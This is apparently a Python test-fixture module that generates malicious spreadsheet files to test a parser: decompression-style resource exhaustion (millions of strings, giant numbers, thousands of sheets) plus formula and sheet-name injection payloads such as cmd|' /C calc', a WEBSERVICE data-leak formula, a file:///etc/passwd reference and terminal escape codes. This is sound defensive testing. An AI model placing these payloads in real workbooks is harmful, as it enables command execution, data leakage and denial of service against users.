"""Cells, texts, styles and names of sheets made to exhaust or to deceive."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable

from hostile_parts import (
    MAIN,
    PARAMETERS,
    VARIABLES,
    added_sheets,
    after_rows,
    blank_rows,
    column,
    in_rows,
    replaced,
    rows_of,
    sheet,
    template,
    with_part,
    zipped,
)


def huge_conditional_formats() -> bytes:
    rule = (
        b'<conditionalFormatting sqref="A1:XFD1048576 B2:XFD1048576"><cfRule type="expression" priority="%d">'
        b"<formula>SUM(A:A)</formula></cfRule></conditionalFormatting>"
    )
    return with_part(PARAMETERS, after_rows(b"".join(rule % k for k in range(5_000))))


def huge_data_validations() -> bytes:
    rule = b'<dataValidation type="list" sqref="A1:XFD1048576"><formula1>$A$1:$XFD$1048576</formula1></dataValidation>'
    return with_part(PARAMETERS, after_rows(b"<dataValidations>" + rule * 5_000 + b"</dataValidations>"))


def huge_links() -> bytes:
    link = b'<hyperlink ref="A1:XFD1048576" location="x"/>'
    return with_part(PARAMETERS, after_rows(b"<hyperlinks>" + link * 100 + b"</hyperlinks>"))


def _texts(items: Iterable[bytes]) -> Callable[[bytes], bytes]:
    return replaced(b"</sst>", b"".join(b"<si><t>%s</t></si>" % item for item in items) + b"</sst>")


def many_texts() -> bytes:
    return with_part("xl/sharedStrings.xml", _texts(b"text %d" % k for k in range(1_500_000)), 1)


def long_texts() -> bytes:
    return with_part("xl/sharedStrings.xml", _texts((b"%05d " % k) * 5_000 for k in range(2_000)), 0)


def a_giant_text() -> bytes:
    return with_part("xl/sharedStrings.xml", _texts([b"ab " * 20_000_000]), 0)


def a_giant_number() -> bytes:
    cell = b'<row r="40"><c r="C40"><v>' + b"9" * 10_000_000 + b"</v></c></row>"
    return with_part(PARAMETERS, in_rows(cell), 0)


def strange_numbers() -> bytes:
    cells = b"".join(
        b'<c r="%c40"><v>%s</v></c>' % (67 + k, v)
        for k, v in enumerate((b"nan", b"inf", b"1e999", b"1_000", b"0x10", b"--1", b"1e9999999"))
    )
    return with_part(PARAMETERS, in_rows(b'<row r="40">' + cells + b"</row>"))


def text_numbers_out_of_range() -> bytes:
    cell = b'<row r="40"><c r="A40" t="s"><v>99999999999999999999</v></c></row>'
    return with_part(PARAMETERS, in_rows(cell))


def strange_addresses() -> bytes:
    return with_part(PARAMETERS, in_rows(b'<row r="40"><c r="AAAA99999999"><v>1</v></c></row>'))


def strange_rows() -> bytes:
    return with_part(PARAMETERS, in_rows(b'<row r="99999999999999999999"><c><v>1</v></c></row>'))


def strange_dates() -> bytes:
    return zipped(
        template()
        | {
            "xl/styles.xml": b'<styleSheet xmlns="%s"><cellXfs><xf numFmtId="14"/></cellXfs></styleSheet>'
            % MAIN.encode(),
            PARAMETERS: in_rows(b'<row r="40"><c r="C40"><v>1e300</v></c><c r="D40" t="d"><v>yesterday</v></c></row>')(
                template()[PARAMETERS]
            ),
        }
    )


def huge_number_format() -> bytes:
    formats = b'<numFmts><numFmt numFmtId="200" formatCode="%s"/></numFmts>' % (b"[h" * 400_000)
    styles = b'<styleSheet xmlns="%s">%s<cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>'
    return with_part("xl/styles.xml", styles % (MAIN.encode(), formats))


def many_styles() -> bytes:
    return with_part(
        "xl/styles.xml", lambda x: re.sub(rb"(<cellXfs[^>]*>)", rb"\1" + b'<xf numFmtId="9"/>' * 65_000, x), 0
    )


def huge_formulas() -> bytes:
    cell = b'<c r="C%d"><f>%s</f></c>'
    rows = b"".join(b'<row r="%d">%s</row>' % (r, cell % (r, b"SUM(A1," * 5_000)) for r in range(40, 140))
    return with_part(PARAMETERS, in_rows(rows), 0)


def many_shared_formulas() -> bytes:
    first = b'<row r="40"><c r="C40"><f t="shared" ref="C40:C40000" si="0">%s1</f></c></row>' % (b"A1+" * 60)
    rest = b"".join(b'<row r="%d"><c r="C%d"><f t="shared" si="0"/></c></row>' % (r, r) for r in range(41, 20_000))
    return with_part(PARAMETERS, in_rows(first + rest))


def dangerous_formulas() -> bytes:
    cells = (
        b'<c r="B40" t="str"><f>cmd|\' /C calc\'!A0</f><v>shown</v></c>'
        b'<c r="A40" t="str"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;A1)</f><v>p_extra</v></c>'
        b"<c r=\"C40\"><f>'file:///etc/[passwd]Sheet'!A1</f><v>0.5</v></c>"
    )
    return with_part(PARAMETERS, in_rows(b'<row r="40">' + cells + b"</row>"))


def sheet_names_with_formulas() -> bytes:
    names = (
        b"=cmd|&apos; /C calc&apos;!A0", b"@SUM(A1)", b"+1+1", b"-2&#10;+3", b"&lt;script&gt;", b"a&#x9b;31m",
        b"table =cmd", b"Paramaters&#x9b;2J&#x202e;",
    )  # fmt: skip
    return zipped(added_sheets(names, lambda _: sheet(b"")))


def many_sheets() -> bytes:
    return zipped(added_sheets(b"table t%d" % k for k in range(20_000)))


def as_many_sheets_as_allowed() -> bytes:
    return zipped(added_sheets(b"Paramters %d" % k for k in range(280)))


def as_many_tables_as_allowed() -> bytes:
    names = (b"table t%d" % k for k in range(280))
    header = b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
    return zipped(added_sheets(names, lambda k: sheet(header + b'<row r="2"><c r="A2"><v>1</v></c></row>')))


def one_sheet_many_times() -> bytes:
    """A large sheet under many names: read once each, it would take minutes."""
    parts = added_sheets(b"table t%d" % k for k in range(200))
    links = parts["xl/_rels/workbook.xml.rels"]
    parts["xl/_rels/workbook.xml.rels"] = re.sub(rb"worksheets/more\d+.xml", b"worksheets/more.xml", links)
    parts["xl/worksheets/more.xml"] = sheet(blank_rows(0))
    return zipped(parts, 1)


def a_giant_sheet_name() -> bytes:
    return with_part(
        "xl/workbook.xml", replaced(b"</sheets>", b'<sheet name="%s" r:id="rId1"/></sheets>' % (b"P" * 500_000))
    )


def many_filled_cells() -> bytes:
    cells = b"".join(b'<c r="%c#"><v>0.%d</v></c>' % (65 + k, k) for k in range(20))
    return with_part(PARAMETERS, in_rows(rows_of(cells, 60_000)), 1)


def as_many_cells_as_allowed() -> bytes:
    """Posterior draws of 30 parameters, nearly 300,000 numbers."""
    header = b"".join(
        b'<c r="%s1" t="inlineStr"><is><t>p%d</t></is></c>' % (column(c).encode(), c) for c in range(1, 31)
    )
    cells = b"".join(b'<c r="%s#"><v>0.%d</v></c>' % (column(c).encode(), 10**15 + c) for c in range(1, 31))
    rows = b'<row r="1">' + header + b"</row>" + rows_of(cells, 9_900)
    return zipped(added_sheets([b"draws posterior"], lambda _: sheet(rows)), 1)


def many_broken_rows() -> bytes:
    cells = b'<c r="A#" t="inlineStr"><is><t>bad id #</t></is></c><c r="C#" t="inlineStr"><is><t>x</t></is></c>'
    return with_part(PARAMETERS, in_rows(rows_of(cells, 30_000)))


def many_expressions() -> bytes:
    cells = (
        b'<c r="A#" t="inlineStr"><is><t>v#</t></is></c>'
        b'<c r="B#" t="inlineStr"><is><t>IF(v#, 1, EXP(2)) + ((3 * v#) ^ 2)</t></is></c>'
    )
    return with_part(VARIABLES, in_rows(rows_of(cells, 50_000)))


def a_long_expression() -> bytes:
    text = b"(" * 10_000 + b"1" + b")" * 10_000
    cells = b'<c r="A#" t="inlineStr"><is><t>v#</t></is></c><c r="B#" t="inlineStr"><is><t>' + text + b"</t></is></c>"
    return with_part(VARIABLES, in_rows(rows_of(cells, 3)))


def escaped_signs() -> bytes:
    cells = (
        b'<c r="A#" t="inlineStr"><is><t>p#</t></is></c><c r="C#"><v>1</v></c>'
        b'<c r="B#" t="inlineStr"><is><t>_x0000__x001B_[31m_xD800__x000D_=1+1</t></is></c>'
    )
    return with_part(PARAMETERS, in_rows(rows_of(cells, 3)))
